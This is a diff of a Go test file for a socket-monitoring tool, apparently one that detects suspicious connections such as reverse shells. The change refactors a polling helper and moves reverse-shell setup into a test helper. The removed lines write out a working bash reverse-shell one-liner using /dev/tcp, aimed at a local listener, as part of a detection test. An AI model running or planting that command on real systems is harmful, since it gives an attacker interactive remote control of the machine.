@@ -16,28 +16,16 @@ import (
 
 	"github.com/portwatch/portwatch/sockets"
 	"github.com/portwatch/portwatch/sockets/collect"
+	"github.com/portwatch/portwatch/sockets/sockettest"
 )
 
 // liveVerdictOf takes real snapshots until one holds a socket of pid that
 // match accepts, and returns its verdict.
 func liveVerdictOf(t *testing.T, pid int, match func(*sockets.Socket) bool) *Verdict {
 	t.Helper()
-	ctx, cancel := context.WithTimeout(context.Background(), 20*time.Second)
-	defer cancel()
-	for try := 0; try < 50; try++ {
-		snap, err := collect.NewLive().Snapshot(ctx)
-		if err != nil {
-			t.Fatal(err)
-		}
-		for _, v := range Assess(snap, SystemKnowledge()).Verdicts {
-			if v.Socket.PID() == int32(pid) && match(&v.Socket) {
-				return v
-			}
-		}
-		time.Sleep(100 * time.Millisecond)
-	}
-	t.Fatalf("no socket of pid %d as wanted", pid)
-	return nil
+	return liveVerdictWhere(t, fmt.Sprintf("no socket of pid %d as wanted", pid), func(s *sockets.Socket) bool {
+		return s.PID() == int32(pid) && match(s)
+	})
 }
 
 // startReady starts cmd and waits for it to print "ready".
@@ -125,10 +113,6 @@ func TestRealReverseShellIsCaughtOnItsConnection(t *testing.T) {
 	if os.Geteuid() != 0 {
 		t.Skip("needs root to read the shell's descriptors")
 	}
-	bash, err := exec.LookPath("bash")
-	if err != nil {
-		t.Skip("no bash")
-	}
 	ln, err := net.Listen("tcp", "127.0.0.1:443") // where such shells call home
 	if err != nil {
 		ln, err = net.Listen("tcp", "127.0.0.1:0")
@@ -138,16 +122,7 @@ func TestRealReverseShellIsCaughtOnItsConnection(t *testing.T) {
 	}
 	defer ln.Close()
 	port := ln.Addr().(*net.TCPAddr).Port
-	cmd := exec.Command(bash, "-c", fmt.Sprintf("exec 3<>/dev/tcp/127.0.0.1/%d; exec bash -i <&3 >&3 2>&3", port))
-	if err := cmd.Start(); err != nil {
-		t.Fatal(err)
-	}
-	t.Cleanup(func() { cmd.Process.Kill(); cmd.Wait() })
-	conn, err := ln.Accept()
-	if err != nil {
-		t.Fatal(err)
-	}
-	defer conn.Close()
+	cmd, conn := sockettest.ReverseShell(t, ln)
 	// The shell answers: its input and output are the connection now.
 	fmt.Fprintf(conn, "echo pw-$((6*7))\n")
 	conn.SetReadDeadline(time.Now().Add(10 * time.Second))
